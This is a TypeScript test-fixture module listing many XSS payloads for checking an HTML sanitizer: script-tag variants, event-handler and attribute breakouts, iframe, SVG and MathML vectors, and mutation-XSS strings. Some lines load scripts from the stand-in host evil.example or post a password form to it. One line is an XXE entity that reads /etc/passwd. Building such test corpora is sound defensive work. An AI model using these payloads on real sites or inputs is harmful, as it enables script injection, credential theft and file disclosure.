/** The script of each payload. It sets `isBreached`, which `watchBreaches` detects. */
export const payload = "window.isBreached=1,alert(1)";

const scripts = [
  `<script>${payload}</script>`,
  `<ScRiPt>${payload}</sCrIpT>`,
  `<script src=https://evil.example/x.js></script>`,
  `<script src=//evil.example/x.js defer></script>`,
  `<script type=module>${payload}</script>`,
  `<script type="importmap">{"imports":{"react":"https://evil.example/x.js"}}</script>`,
  `<script >${payload}</script >`,
  `<script\t>${payload}</script\n>`,
  `<script/x>${payload}</script>`,
  `<scr<script>ipt>${payload}</scr</script>ipt>`,
  `<<script>${payload}//<</script>`,
  `</script><script>${payload}</script>`,
  `</title><script>${payload}</script>`,
  `</textarea><script>${payload}</script>`,
  `--><script>${payload}</script>`,
  `]]><script>${payload}</script>`,
  `"><script>${payload}</script>`,
  `'><script>${payload}</script>`,
  `\`><script>${payload}</script>`,
  `&lt;script&gt;${payload}&lt;/script&gt;`,
  `&#60;script&#62;${payload}&#60;/script&#62;`,
  `%3Cscript%3E${payload}%3C/script%3E`,
  `\\u003cscript\\u003e${payload}\\u003c/script\\u003e`,
  `＜script＞${payload}＜/script＞`,
  `<script>${payload}`,
];

/** Elements with an event that fires by itself, or at the first interaction. */
const handled = [
  ["img src=x", "onerror"],
  ["img src=x srcset=y", "onerror"],
  ["svg", "onload"],
  ["svg><animate attributeName=x", "onbegin"],
  ["body", "onload"],
  ["body", "onpageshow"],
  ["video><source src=x", "onerror"],
  ["audio src=x", "onerror"],
  ["video poster=x autoplay", "onloadstart"],
  ["input autofocus", "onfocus"],
  ["input type=image src=x", "onerror"],
  ["textarea autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["button autofocus", "onfocus"],
  ["a href=# tabindex=1 autofocus", "onfocusin"],
  ["details open", "ontoggle"],
  ["marquee", "onstart"],
  ["iframe src=/", "onload"],
  ["object data=x", "onerror"],
  ["embed src=x", "onload"],
  ["link rel=stylesheet href=x", "onerror"],
  ["style", "onload"],
  ["meta http-equiv=x", "onclick"],
  ["div style=animation-name:x", "onanimationstart"],
  ["div style=transition:1s", "ontransitionend"],
  ["div", "onpointerenter"],
  ["p", "onmouseover"],
  ["form", "onsubmit"],
  ["dialog open", "oncancel"],
  ["x contenteditable", "onbeforeinput"],
] as const;

const handlers = handled.flatMap(([element, event]) => [
  `<${element} ${event}=${payload}>`,
  `"><${element} ${event}="${payload}" x="`,
  `'/><${element}/${event.toUpperCase()}='${payload}'//`,
]);

/** For texts that are inserted into a quoted attribute. */
const attributes = ["onmouseover", "onfocus", "onerror", "onload", "style", "srcdoc", "formaction"].flatMap((name) => [
  `" ${name}="${payload}" autofocus x="`,
  `' ${name}='${payload}' autofocus x='`,
]);

const elements = [
  `<iframe srcdoc="<script>parent.${payload}</script>"></iframe>`,
  `<iframe src="javascript:parent.${payload}"></iframe>`,
  `<iframe src="data:text/html,<script>${payload}</script>"></iframe>`,
  `<object data="javascript:${payload}"></object>`,
  `<object type="text/html" data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`,
  `<embed src="javascript:${payload}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${payload}">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<link rel="preload" as="script" href="https://evil.example/x.js">`,
  `<form action="https://evil.example/"><input name="password" type="password"><button>Log In</button></form>`,
  `<form action="javascript:${payload}"><button autofocus>Go</button></form>`,
  `<button formaction="javascript:${payload}">Save</button>`,
  `<input name="attributes"><input name="nodeName">`,
  `<a id="config"></a><a id="config" name="url" href="https://evil.example">x</a>`,
  `<img name="body"><form id="root"></form>`,
  `<frameset onload="${payload}"><frame src="javascript:${payload}">`,
  `<portal src="https://evil.example"></portal>`,
  `<isindex action="javascript:${payload}" type="image">`,
  `<template><script>${payload}</script></template>`,
  `<div><template shadowrootmode="open"><script>${payload}</script></template></div>`,
  `<map name="m"><area href="javascript:${payload}" shape="default"></map><img usemap="#m" src="x">`,
  `<xml id="x"><a>${payload}</a></xml>`,
  `<!--<img src="--><img src=x onerror=${payload}//">`,
];

const drawings = [
  `<svg><script>${payload}</script></svg>`,
  `<svg><script href="data:text/javascript,${payload}"/></svg>`,
  `<svg><a xlink:href="javascript:${payload}"><text y="20">x</text></a></svg>`,
  `<svg><a href="javascript:${payload}"><rect width="99" height="99"/></a></svg>`,
  `<svg><animate href="#x" attributeName="href" values="javascript:${payload}"/><a id="x"><text>x</text></a></svg>`,
  `<svg><set attributeName="onmouseover" to="${payload}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${payload}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${payload}"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${payload}></style></svg>`,
  `<svg><desc><![CDATA[</desc><script>${payload}</script>]]></svg>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg>&e;</svg>`,
  `<math href="javascript:${payload}">x</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${payload}">x</maction></math>`,
];

/** Markup that changes its meaning when it is parsed and serialised again. */
const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${payload}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${payload}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${payload}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${payload}>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${payload}></style></annotation-xml></math>`,
  `<listing>&lt;img src=x onerror=${payload}&gt;</listing>`,
  `<table><tr><td><svg><desc><td><a title="</desc><img src=x onerror=${payload}>">`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${payload}>">`,
  `<xmp><p title="</xmp><svg/onload=${payload}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${payload}>">`,
  `<img alt="\`x\` onerror=${payload} \`" src=x>`,
  `<p id="\`\`onmouseover=${payload}">x</p>`,
  `<svg><![CDATA[><img src=x onerror=${payload}>]]>`,
  `<option><style></option></select><img src=x onerror=${payload}></style>`,
];

/** Payloads in elements and attributes of HTML, SVG and MathML. */
export const markup = [scripts, handlers, attributes, elements, drawings, mutations].flat();
